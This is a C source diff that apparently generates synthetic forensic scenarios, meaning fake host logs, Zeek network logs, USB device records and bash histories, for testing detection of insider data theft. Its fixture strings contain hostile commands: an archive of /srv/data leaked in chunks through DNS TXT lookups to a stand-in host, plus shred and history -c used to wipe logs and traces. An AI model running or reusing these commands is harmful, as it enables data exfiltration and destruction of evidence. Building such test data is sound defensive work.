@@ -9,16 +9,20 @@
 struct scenario {
 	const char *name;
 	unsigned story, network;	/* acts */
-	const char *device;		/* text of a device log, or NULL */
+	bool has_device_log;		/* a stick was put in, says Windows */
 	const char *history;		/* a server: what its administrator typed, or NULL */
+	const char *typed;		/* and what somebody else did, moved in time by the seed */
+	bool has_stick;			/* its kernel saw a storage device */
 	bool is_wtmp_emptied;
 };
 
+/* With the times of begin and end. */
 #define DEVICE \
 	"[Device Install (Hardware initiated) - USBSTOR\\Disk&Ven_Example&Prod_Stick&Rev_1.00\\AA01020304&0]\r\n" \
-	">>>  Section start 2017/03/08 13:20:11.201\r\n" \
+	">>>  Section start %s.201\r\n" \
 	"      cmd: \"C:\\Windows\\System32\\services.exe\"\r\n" \
-	"<<<  Section end 2017/03/08 13:20:13.642\r\n<<<  [Exit status: SUCCESS]\r\n\r\n"
+	"<<<  Section end %s.642\r\n<<<  [Exit status: SUCCESS]\r\n\r\n"
+#define DEVICE_TIME 1488979211	/* 2017-03-08 13:20:11 UTC */
 
 /* Seconds: 1488960000 is 2017-03-08 08:00 UTC. */
 #define WORK \
@@ -32,18 +36,30 @@ struct scenario {
 	"#1489089900\nsudo shred -n 1 /dev/sdc\n"
 #define HIDING "#1489066800\nsudo shred -u /var/log/auth.log\n#1489066830\nhistory -c\n"
 
+#define PACKING_FOR_NAMES \
+	"#1488979500\ntar czf /var/tmp/.cache.tgz /srv/data\n" \
+	"#1488979860\nfor c in $(base32 -w0 /var/tmp/.cache.tgz | fold -w 56); do dig +short " \
+	"$c.t.cdn-metrics.example TXT; done\n#1488990000\nrm /var/tmp/.cache.tgz\n"
+#define PACKING_TO_STICK \
+	"#1488979500\ntar czf /var/tmp/.cache.tgz /srv/data\n#1488980700\nsudo mount /dev/sdb1 /mnt\n" \
+	"#1488980760\nsudo cp /var/tmp/.cache.tgz /mnt/\n#1488981000\nsudo umount /mnt\n" \
+	"#1488981060\nrm /var/tmp/.cache.tgz\n"
+
 static const struct scenario scenarios[] = {
-	{ "clean-office", 0, 0, NULL, NULL, false },
-	{ "windows-upload", STORY_GATHERING | STORY_REMOVING, NETWORK_UPLOAD, NULL, NULL, false },
-	{ "windows-dns", STORY_GATHERING, NETWORK_TUNNEL, NULL, NULL, false },
-	{ "windows-usb", STORY_GATHERING | STORY_REMOVING, 0, DEVICE, NULL, false },
-	{ "windows-wiper", STORY_WIPING, 0, NULL, NULL, false },
-	{ "windows-clearing", STORY_CLEARING, 0, NULL, NULL, false },
-	{ "windows-beacon", 0, NETWORK_BEACON, NULL, NULL, false },
-	{ "clean-server", 0, 0, NULL, WORK, false },
-	{ "linux-upload", 0, NETWORK_UPLOAD, NULL, WORK PACKING, false },
-	{ "linux-wiper", 0, 0, NULL, WORK WIPING, false },
-	{ "linux-clearing", 0, 0, NULL, WORK HIDING, true },
+	{ .name = "clean-office" },
+	{ .name = "windows-upload", .story = STORY_GATHERING | STORY_REMOVING, .network = NETWORK_UPLOAD },
+	{ .name = "windows-dns", .story = STORY_GATHERING, .network = NETWORK_TUNNEL },
+	{ .name = "windows-usb", .story = STORY_GATHERING | STORY_REMOVING, .has_device_log = true },
+	{ .name = "windows-wiper", .story = STORY_WIPING },
+	{ .name = "windows-clearing", .story = STORY_CLEARING },
+	{ .name = "windows-beacon", .network = NETWORK_BEACON },
+	{ .name = "clean-server", .history = WORK },
+	{ .name = "linux-upload", .network = NETWORK_UPLOAD, .history = WORK, .typed = PACKING },
+	{ .name = "linux-dns", .network = NETWORK_TUNNEL, .history = WORK, .typed = PACKING_FOR_NAMES },
+	{ .name = "linux-usb", .history = WORK, .typed = PACKING_TO_STICK, .has_stick = true },
+	{ .name = "linux-wiper", .history = WORK, .typed = WIPING },
+	{ .name = "linux-clearing", .history = WORK, .typed = HIDING, .is_wtmp_emptied = true },
+	{ .name = "linux-beacon", .network = NETWORK_BEACON, .history = WORK },
 };
 #define SCENARIOS (sizeof scenarios / sizeof *scenarios)
 
@@ -76,9 +92,60 @@ static void add_logon(struct buf *to, uint32_t seconds, const char *user, const 
 		buf_add_u8(to, 0);
 }
 
-static void put_server(const char *root, const struct scenario *s)
+/* What an act's times are moved by: from 50 hours earlier to 20 later. */
+static int64_t moved_by(uint32_t seed)
 {
-	struct buf wtmp = buf_new(1 << 16);
+	return seed ? (int64_t)(seed * 2654435761u % (70 * 3600)) - 50 * 3600 : 0;
+}
+
+/* A history whose lines of time ("#1488960000") are moved. */
+static void add_history(struct buf *to, const char *text, int64_t moved)
+{
+	struct span rest = span_text(text);
+
+	while (rest.len) {
+		struct span line = span_split(&rest, '\n');
+		uint64_t t;
+
+		if (line.at[0] == '#' && span_to_u64(span_from(line, 1), &t))
+			buf_printf(to, "#%lld\n", (long long)((int64_t)t + moved));
+		else
+			buf_printf(to, "%.*s\n", SPAN_ARG(line));
+	}
+}
+
+/* As rsyslog writes them by now, with year and zone. */
+static void add_kernel_line(struct buf *to, int64_t seconds, const char *text)
+{
+	struct buf time = buf_new(64);
+
+	timestamp_format(&time, seconds * TIME_SECOND, 6);
+	buf_printf(to, "%.*s+00:00 srv01 kernel: %s\n", SPAN_ARG(span_sub(buf_span(&time), 0, time.len - 1)),
+		   text);
+	buf_free(&time);
+}
+
+static void put_kernel_log(const char *root, const struct scenario *s, int64_t moved)
+{
+	struct buf log = buf_new(1 << 16);
+
+	for (int day = 0; day < 5; day++)
+		add_kernel_line(&log, 1488787000 + day * 86400, "[12000.1] perf: interrupt took too long");
+	if (s->has_stick) {
+		add_kernel_line(&log, 1488980690 + moved, "[13001.1] usb 1-2: new high-speed USB device number 5 "
+				"using xhci_hcd");
+		add_kernel_line(&log, 1488980690 + moved, "[13001.2] usb 1-2: Product: Example Stick");
+		add_kernel_line(&log, 1488980690 + moved, "[13001.2] usb 1-2: SerialNumber: AA01020304");
+		add_kernel_line(&log, 1488980691 + moved, "[13001.3] usb-storage 1-2:1.0: USB Mass Storage device "
+				"detected");
+	}
+	put_file(root, "srv01/var/log/kern.log", buf_span(&log));
+	buf_free(&log);
+}
+
+static void put_server(const char *root, const struct scenario *s, int64_t moved)
+{
+	struct buf wtmp = buf_new(1 << 16), history = buf_new(1 << 16);
 
 	for (uint32_t day = 0; day < 5 && !s->is_wtmp_emptied; day++)
 		add_logon(&wtmp, 1488787000 + day * 86400, "mori", "10.20.0.5");
@@ -91,23 +158,50 @@ static void put_server(const char *root, const struct scenario *s)
 		 "Mar  8 07:58:01 srv01 sshd[812]: Accepted publickey for mori from 10.20.0.5 port 50112 ssh2\n"
 		 "Mar  8 07:58:01 srv01 sshd[812]: pam_unix(sshd:session): session opened for user mori by (uid=0)\n"
 		 "Mar  8 17:02:44 srv01 sshd[812]: pam_unix(sshd:session): session closed for user mori\n");
-	put_text(root, "srv01/home/mori/.bash_history", s->history);
+	add_history(&history, s->history, 0);
+	add_history(&history, s->typed ? s->typed : "", moved);
+	put_file(root, "srv01/home/mori/.bash_history", buf_span(&history));
+	buf_free(&history);
+	put_kernel_log(root, s, moved);
 	put_file(root, "srv01/var/log/wtmp", buf_span(&wtmp));
 	buf_free(&wtmp);
 }
 
-static void put_network(const char *root, const struct scenario *s)
+/* "2017/03/08 13:20:11" */
+static void device_time(int64_t seconds, char text[20])
+{
+	struct buf time = buf_new(64);
+
+	timestamp_format(&time, seconds * TIME_SECOND, 0);
+	snprintf(text, 20, "%.4s/%.2s/%.2s %.8s", (char *)time.at, (char *)time.at + 5, (char *)time.at + 8,
+		 (char *)time.at + 11);
+	buf_free(&time);
+}
+
+static void put_device_log(const char *root, int64_t moved)
+{
+	struct buf log = buf_new(1 << 12);
+	char begin[20], end[20];
+
+	device_time(DEVICE_TIME + moved, begin);
+	device_time(DEVICE_TIME + 2 + moved, end);
+	buf_printf(&log, DEVICE, begin, end);
+	put_file(root, "DESIGN07/C/Windows/INF/setupapi.dev.log", buf_span(&log));
+	buf_free(&log);
+}
+
+static void put_network(const char *root, const struct scenario *s, uint32_t seed)
 {
 	struct buf conn, dns;
 
-	network_of_office(&conn, &dns, s->network);
+	network_of_office(&conn, &dns, s->network, seed, moved_by(seed));
 	put_file(root, "zeek/conn.log", buf_span(&conn));
 	put_file(root, "zeek/dns.log", buf_span(&dns));
 	buf_free(&conn);
 	buf_free(&dns);
 }
 
-bool scenario_write(const char *root, const char *name)
+bool scenario_write(const char *root, const char *name, uint32_t seed)
 {
 	for (size_t i = 0; i < SCENARIOS; i++) {
 		const struct scenario *s = &scenarios[i];
@@ -115,16 +209,16 @@ bool scenario_write(const char *root, const char *name)
 
 		if (strcmp(s->name, name))
 			continue;
-		put_network(root, s);
+		put_network(root, s, seed);
 		if (s->history) {
-			put_server(root, s);
+			put_server(root, s, moved_by(seed));
 		} else {
-			story_of_office(&story, s->story);
+			story_of_office(&story, s->story, seed, moved_by(seed));
 			put_logs(root, "DESIGN07", &story);
 			free(story.events);
 		}
-		if (s->device)
-			put_text(root, "DESIGN07/C/Windows/INF/setupapi.dev.log", s->device);
+		if (s->has_device_log)
+			put_device_log(root, moved_by(seed));
 		return true;
 	}
 	return false;
